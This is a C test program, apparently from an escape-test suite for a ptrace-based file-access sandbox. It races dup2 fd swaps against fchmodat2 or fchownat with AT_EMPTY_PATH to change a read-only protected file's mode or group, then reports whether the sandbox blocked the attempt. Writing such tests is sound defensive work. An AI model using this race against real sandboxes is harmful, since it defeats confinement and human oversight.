/*
 * Vector 3 (TOCTOU on an fd), by path calls with an empty path:
 * fchmodat2(fd, "", mode, AT_EMPTY_PATH) and fchownat(fd, "", ...,
 * AT_EMPTY_PATH) act on the fd itself. They are decided on the fd's file,
 * but the path pinning has nothing to pin (tracer/pin.c pin_paths:
 * "AT_EMPTY_PATH names the fd, not a string") and they are not made by
 * name like fchmod (pin_fdfile). A thread dup2()s a read-only fd of
 * protected/victim.txt and a decoy in work/ in turn onto fd 100 while the
 * main thread changes fd 100's mode (fchmodat2, Linux 6.6) or, without
 * fchmodat2, its group (fchownat) for 5 s.
 * Policy esc_fchmodat_empty_race.yaml: protected/victim.txt read-only.
 * success = victim.txt's mode or group changed.
 * expect: ptrace_file
 * expect-match: victim.txt
 */
#include "esc.h"

#define TARGET_FD 100

#ifndef SYS_fchmodat2
#define SYS_fchmodat2 452
#endif

static int ro, decoy;

int main(void)
{
	const char *victim = esc_fmt("%s/victim.txt", esc_protected());
	bool chmod2 = true;
	struct stat before, now;
	long tries = 0;

	ro = open(victim, O_RDONLY);
	if (ro < 0)
		esc_broken("open %s read-only: %s", victim, strerror(errno));
	decoy = open(esc_fmt("%s/decoy", esc_work()), O_RDWR | O_CREAT, 0644);
	if (decoy < 0 || fstat(ro, &before) < 0)
		esc_broken("decoy: %s", strerror(errno));
	if (syscall(SYS_fchmodat2, decoy, "", 0644, AT_EMPTY_PATH) < 0 && errno == ENOSYS)
		chmod2 = false;
	esc_dup2_flip_start(decoy, ro, TARGET_FD);
	for (double end = esc_now() + esc_race_seconds(); esc_now() < end; tries++) {
		if (chmod2)
			syscall(SYS_fchmodat2, TARGET_FD, "", (before.st_mode & 07777) ^ 0100,
				AT_EMPTY_PATH);
		else
			fchownat(TARGET_FD, "", (uid_t)-1, before.st_gid ^ 1, AT_EMPTY_PATH);
		if (fstat(ro, &now) == 0 && (now.st_mode != before.st_mode || now.st_gid != before.st_gid)) {
			esc_dup2_flip_stop();
			esc_success("%s reached protected/victim.txt through a swapped fd after %ld "
				    "tries (mode %o -> %o, gid %d -> %d)",
				    chmod2 ? "fchmodat2(AT_EMPTY_PATH)" : "fchownat(AT_EMPTY_PATH)",
				    tries, before.st_mode & 07777, now.st_mode & 07777,
				    (int)before.st_gid, (int)now.st_gid);
		}
	}
	esc_dup2_flip_stop();
	esc_blocked("protected/victim.txt kept its mode and group in %ld tries", tries);
}
